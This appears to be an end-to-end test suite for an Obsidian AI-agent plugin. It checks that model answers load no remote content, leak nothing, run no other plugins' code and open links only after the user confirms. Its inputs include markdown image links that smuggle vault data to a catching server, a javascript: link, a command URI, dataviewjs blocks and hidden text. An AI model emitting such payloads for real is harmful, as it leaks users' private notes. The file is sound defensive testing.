/**
 * What a model says, as the panel draws it: nothing is loaded, run or opened by it, and a person sees all of it. The
 * ways are those of the core's own suite.
 */
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page, Request } from "playwright-core";
import { afterAll, describe, expect, onTestFinished, test } from "vitest";
import { calls, says, startAgentModel, type Turns } from "./agent-model";
import { hashFolder, openNote, repository } from "./harness";
import { eventually, ideas, leave, sitDown, type Person, type Seat } from "./person";

afterAll(leave);

interface Way {
	name: string;
	text: string;
}

const ways = JSON.parse(
	readFileSync(join(repository, "wasm/internal/answer/testdata/ways.json"), "utf8"),
) as Way[];

const pixel = Buffer.from(
	"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
	"base64",
);

/** A server that nothing may ask, and what was asked of it. */
interface Sink {
	url: string;
	asked: string[];
	/** The ways, each with an address of its own at this server. */
	ways: Way[];
}

async function openSink(): Promise<Sink> {
	const asked: string[] = [];
	const server = createServer((request, response) => {
		asked.push(request.url ?? "");
		response.writeHead(200, { "content-type": "image/png", "access-control-allow-origin": "*" }).end(pixel);
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	onTestFinished(() => {
		server.closeAllConnections();
		return new Promise<void>((resolve) => server.close(() => resolve()));
	});
	const bare = `127.0.0.1:${(server.address() as AddressInfo).port}`;
	const url = `http://${bare}`;
	const filled = ways.map(({ name, text }) => {
		const own = `${url}/p.png?way=${encodeURIComponent(name).replaceAll("'", "%27")}`;
		const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${own}"/></svg>`);
		const data: Record<string, string> = { url: own, bare, svg: svg.toString("base64") };
		return { name, text: text.replace(/\{(url|bare|svg)\}/g, (_, key: string) => data[key] ?? "") };
	});
	return { url, asked, ways: filled };
}

/** What the page asks of anybody but the app's own server and the model's. */
function watchRequests(person: Person, ...own: string[]): string[] {
	const foreign: string[] = [];
	const origins = [person.playground.url, ...own].map((url) => new URL(url).origin);
	const heard = (request: Request) => {
		const url = request.url();
		if (!origins.some((origin) => url.startsWith(origin)) && !/^(blob|data):/.test(url)) foreign.push(url);
	};
	person.playground.context.on("request", heard);
	return foreign;
}

async function seatWith(turns: Turns, options?: Seat): Promise<{ person: Person; model: string }> {
	const model = await startAgentModel(turns);
	onTestFinished(() => model.close());
	const person = await sitDown({ ...options, settings: { demoModelUrl: model.url, ...options?.settings } });
	onTestFinished(() => person.standUp());
	return { person, model: model.url };
}

const articles = (person: Person) => person.panel.getByRole("article");

/** Says something and waits for the end of the answer. */
async function ask(person: Person, text: string): Promise<void> {
	const message = person.panel.getByRole("textbox", { name: "Message" });
	await message.fill(text);
	await message.press("Enter");
	const last = articles(person).last();
	// Exactly: one text can be the end of another.
	const said = async () => (await last.locator(".ea-said").innerText()).replace(/^\s*You:\s*/, "").trim();
	await eventually(said).toBe(text);
	await last.getByRole("button", { name: "Copy answer" }).waitFor();
	await allDrawn(person);
}

/** Waits until every answer that is in the panel is drawn whole. */
async function allDrawn(person: Person): Promise<void> {
	await eventually(() => person.panel.locator('.ea-reply[aria-busy="true"]').count()).toBe(0);
}

/** Of a long conversation the last turns are drawn; the others at a press. */
async function drawAll(person: Person, turns: number): Promise<void> {
	const earlier = person.panel.locator(".ea-earlier");
	await articles(person).last().waitFor();
	while ((await earlier.count()) > 0) {
		const before = await articles(person).count();
		await earlier.click();
		await eventually(() => articles(person).count()).toBeGreaterThan(before);
	}
	await eventually(() => person.panel.locator(".ea-reply").count()).toBe(turns);
	await allDrawn(person);
}

/** Moves the pointer over all that an answer draws, and the keyboard's focus to it. */
async function touchEverything(page: Page): Promise<void> {
	await page.evaluate(() => {
		for (const el of document.querySelectorAll<HTMLElement>(".ea-reply *, .ea-review *, .ea-history-run *")) {
			for (const type of ["pointerover", "mouseover", "pointerenter", "mouseenter", "mousemove"])
				el.dispatchEvent(new MouseEvent(type, { bubbles: true }));
			if (el.tabIndex >= 0) el.focus();
		}
	});
	for (const link of await page.locator(".ea-reply [role=link]").all())
		if (await link.isVisible()) await link.hover();
}

/** Whatever was begun before has been asked by the time that this comes back. */
async function quiet(person: Person, sink: Sink): Promise<void> {
	await person.page.evaluate(async (url) => {
		await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
		await fetch(url);
		await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
		await fetch(url);
	}, `${sink.url}/control`);
}

/** Elements and attributes of the panel that could load something, or run. */
function couldLoad(page: Page): Promise<string[]> {
	return page.evaluate(() => {
		const found: string[] = [];
		const attributes =
			/^(on.*|src|srcset|poster|background|href|xlink:href|data|action|formaction|srcdoc|style|ping)$/i;
		for (const el of document.querySelectorAll(".ea-reply, .ea-reply *")) {
			const name = el.tagName.toLowerCase();
			if (
				/^(img|video|audio|source|track|iframe|frame|object|embed|link|style|script|base|meta|form|math|picture|template)$/.test(
					name,
				)
			)
				found.push(name);
			const own = el.closest(".ea-icon, .svg-icon") !== null;
			for (const { name: attribute, value } of el.attributes)
				if (attributes.test(attribute) && !own) found.push(`${name} ${attribute}=${value}`);
		}
		return found;
	});
}

const remote = (sink: Sink) => [...new Set(sink.asked)].filter((url) => url !== "/control");

describe("an answer", () => {
	test(`in any of ${ways.length} ways loads nothing: while it streams, when it is there, after a restart, out of the list, under the pointer`, async () => {
		const sink = await openSink();
		const { person, model } = await seatWith((n) => [says(sink.ways[n]?.text ?? "No more.")]);
		const foreign = watchRequests(person, model);
		for (const way of sink.ways) await ask(person, way.name);
		const silent = async () => {
			await touchEverything(person.page);
			await quiet(person, sink);
			expect(remote(sink)).toEqual([]);
			expect(foreign.filter((url) => !url.endsWith("/control"))).toEqual([]);
			expect(await couldLoad(person.page)).toEqual([]);
		};
		await silent();

		await person.restart();
		await drawAll(person, sink.ways.length);
		await silent();

		await person.newConversation();
		await person.button("Conversations").click();
		await person.panel
			.getByRole("list", { name: "Conversations" })
			.getByRole("listitem")
			.getByRole("button")
			.first()
			.click();
		await drawAll(person, sink.ways.length);
		await silent();
	}, 300_000);

	test("of an agent that has read a secret takes it nowhere", async () => {
		const sink = await openSink();
		const { person, model } = await seatWith([
			[calls("vault.readFile", { path: ideas.path })],
			[says(`Done. ![ok](${sink.url}/p.png?d=Tomato%20trellis)`)],
		]);
		const foreign = watchRequests(person, model);
		await person.panel.getByRole("radio", { name: "Agent" }).check({ force: true });
		await ask(person, "Tidy up");
		await quiet(person, sink);
		expect(remote(sink)).toEqual([]);
		await person.restart();
		await person.panel.getByText("Done.").waitFor();
		await quiet(person, sink);
		expect(remote(sink)).toEqual([]);
		expect(foreign.filter((url) => !url.endsWith("/control"))).toEqual([]);
	});

	test("runs no code of other plugins, and opens no note", async () => {
		const blocks = ["dataviewjs", "dataview", "tasks", "js-engine", "button", "query", "mermaid"];
		const text = [
			...blocks.map((name) => `\`\`\`${name}\nwindow.ranFromAnswer = true\n\`\`\``),
			`![[${ideas.path}]]`,
			"![[Ideas for the garden]]",
			"`$= window.ranFromAnswer = true` and `= this.file`",
		].join("\n\n");
		const { person } = await seatWith([[says(text)]]);
		await person.page.evaluate((names) => {
			const { plugins } = window.app as unknown as {
				plugins: {
					plugins: Record<
						string,
						{
							registerMarkdownCodeBlockProcessor(name: string, run: () => void): void;
							registerMarkdownPostProcessor(run: () => void): void;
						}
					>;
				};
			};
			const other = plugins.plugins["embedded-agent"];
			const ran = () => document.body.setAttribute("data-ran", "yes");
			for (const name of names) other?.registerMarkdownCodeBlockProcessor(name, ran);
			other?.registerMarkdownPostProcessor(ran);
		}, blocks);
		await ask(person, "Show me");
		const reply = person.panel.locator(".ea-reply");
		await reply.getByText("window.ranFromAnswer = true").first().waitFor();
		expect(await person.page.locator("body[data-ran]").count()).toBe(0);
		expect(await reply.locator(".internal-embed, .markdown-embed").count()).toBe(0);
		expect(await reply.innerText()).not.toContain("Tomato trellis");
		expect(await reply.innerText()).toContain(ideas.path);
		expect(person.playground.errors).toEqual([]);
	});
});

describe("what a person may do with an answer", () => {
	const picture = "https://pictures.plants.org/heap.png?d=one";

	test("a picture is loaded once, at a press on its address, and waits for a press again after a restart", async () => {
		const { person, model } = await seatWith([
			[says(`Look: ![the heap](${picture})\n\n![no](http://192.168.1.1/x.png)`)],
		]);
		const foreign = watchRequests(person, model);
		await person.playground.context.route("https://pictures.plants.org/**", (route) =>
			route.fulfill({ contentType: "image/png", body: pixel }),
		);
		await ask(person, "Show me the heap");
		const reply = person.panel.locator(".ea-reply");
		await reply.getByText(picture).waitFor();
		const load = reply.getByRole("button", { name: "Load image from pictures.plants.org" });
		await load.waitFor();
		expect(await reply.getByRole("button", { name: /^Load image/ }).count()).toBe(1);
		await reply.getByText("Not loaded: this is not an address on the public web.").waitFor();
		expect(foreign).toEqual([]);
		await load.click();
		await eventually(() =>
			reply.locator("img").evaluateAll((all) => all.map((img) => (img as HTMLImageElement).naturalWidth)),
		).toEqual([1]);
		expect(foreign).toEqual([picture]);
		expect(await load.count()).toBe(0);
		await person.restart();
		await load.waitFor();
		expect(await reply.locator("img").count()).toBe(0);
		expect(foreign).toEqual([picture]);
	});

	test("a link says where it leads and is opened at a press; one that carries something shows all of it first; a note is opened if it is there", async () => {
		const secret = "https://collect.plants.org/?d=secret";
		const text = `[the docs](https://docs.plants.org/a), [more](${secret}), [run](obsidian://advanced-uri?commandid=x), [no](javascript:alert), [[${ideas.path}|ideas]] and [[Nowhere]].`;
		const { person } = await seatWith([[says(text)]]);
		await person.page.evaluate(() => {
			window.open = (address) => {
				document.body.setAttribute(
					"data-opened",
					`${document.body.getAttribute("data-opened") ?? ""} ${String(address)}`,
				);
				return null;
			};
		});
		const opened = async () =>
			((await person.page.locator("body").getAttribute("data-opened")) ?? "").trim().split(" ");
		const before = hashFolder(person.vault);
		await ask(person, "Where can I read on?");
		const link = (name: RegExp) => person.panel.locator(".ea-reply").getByRole("link", { name });
		expect(await person.panel.locator(".ea-reply").getByRole("link").count()).toBe(5);
		expect(await person.panel.locator(".ea-reply").innerText()).toContain("[no](javascript:alert)");
		await link(/^the docs \(docs\.plants\.org\)$/).click();
		expect(await opened()).toEqual(["https://docs.plants.org/a"]);
		await link(/^more/).press("Enter");
		const asks = person.panel.getByRole("group", { name: "Open this address in your browser?" });
		await asks.getByText(secret).waitFor();
		expect(await opened()).toHaveLength(1);
		await asks.getByRole("button", { name: "Back" }).click();
		await asks.waitFor({ state: "detached" });
		await link(/^run/).click();
		await asks.getByText("obsidian://advanced-uri?commandid=x").waitFor();
		expect(await opened()).toHaveLength(1);
		await asks.getByRole("button", { name: "Open" }).click();
		expect(await opened()).toEqual(["https://docs.plants.org/a", "obsidian://advanced-uri?commandid=x"]);
		await link(/^Nowhere$/).click();
		await person.page.getByText("There is no “Nowhere” in this vault.").waitFor();
		await link(/^ideas/).click();
		await eventually(() => person.page.evaluate(() => window.app.workspace.getActiveFile()?.path)).toBe(
			ideas.path,
		);
		expect(hashFolder(person.vault)).toEqual(before);
	});

	test("what is inserted is what was drawn; what a note would hide can be read, and what it would run is said first", async () => {
		const plain =
			"Use **old leaves**. %%and this%% <!-- and that --> <span style='display:none'>and more</span> a\u200bb";
		const code = "Try `$= dv.pages()`.\n\n```dataviewjs\nx\n```\n\n![p](https://collect.plants.org/p.png)";
		const { person } = await seatWith([[says("Use **old leaves**.")], [says(plain)], [says(code)]]);
		await openNote(person.page, ideas.path);
		await ask(person, "One");
		await person.button("Insert at cursor").last().click();
		await eventually(() => person.editorText()).toContain("Use **old leaves**.");

		await ask(person, "Two");
		const drawn = await person.panel.locator(".ea-reply").last().innerText();
		for (const words of [
			"%%and this%%",
			"<!-- and that -->",
			"<span style='display:none'>",
			"and more",
			"ZWSP",
		])
			expect(drawn).toContain(words);
		await person.button("Insert at cursor").last().click();
		await eventually(() => person.editorText()).toContain(plain);

		await ask(person, "Three");
		await person.button("Insert at cursor").last().click();
		const asks = person.panel.getByRole("group", { name: /Dataview.*collect\.plants\.org/ });
		await asks.waitFor();
		await asks.getByRole("button", { name: "Back" }).click();
		expect(await person.editorText()).not.toContain("dataviewjs");
	});
});

test("a plan's goal, assumptions, steps and files load nothing either: in the review, in the run, in the history", async () => {
	const sink = await openSink();
	const texts = sink.ways.map(({ text }) => text);
	const plan = {
		version: 1,
		// Not more: of a list that is far below only what is in sight is drawn.
		goal: sink.ways
			.filter(({ name }) => ["an image", "an img", "a style sheet"].includes(name))
			.map(({ text }) => text)
			.join(" "),
		assumptions: texts,
		steps: [
			{
				id: "note",
				tool: "vault.createFile",
				args: { path: "Hostile.md", content: texts.join("\n\n") },
				preview: texts.slice(30, 60).join(" "),
			},
		],
	};
	const { person, model } = await seatWith([
		[{ kind: "text", text: texts[0] ?? "" }, calls("submit_plan", plan)],
	]);
	const foreign = watchRequests(person, model);
	const silent = async () => {
		await touchEverything(person.page);
		await quiet(person, sink);
		expect(remote(sink)).toEqual([]);
		expect(foreign.filter((url) => !url.endsWith("/control"))).toEqual([]);
	};
	await person.say("Make a note");
	await person.plan.waitFor();
	await person.shown("Hostile.md");
	await person.plan.evaluate((plan) =>
		plan.querySelectorAll("details").forEach((details) => (details.open = true)),
	);
	await silent();
	await person.approve();
	await silent();
	await person.restart();
	await person.button("History").click();
	await person.panel.locator(".ea-history-run").getByRole("button", { expanded: false }).first().click();
	await silent();
	expect(person.read("Hostile.md")).toContain(sink.url);
});
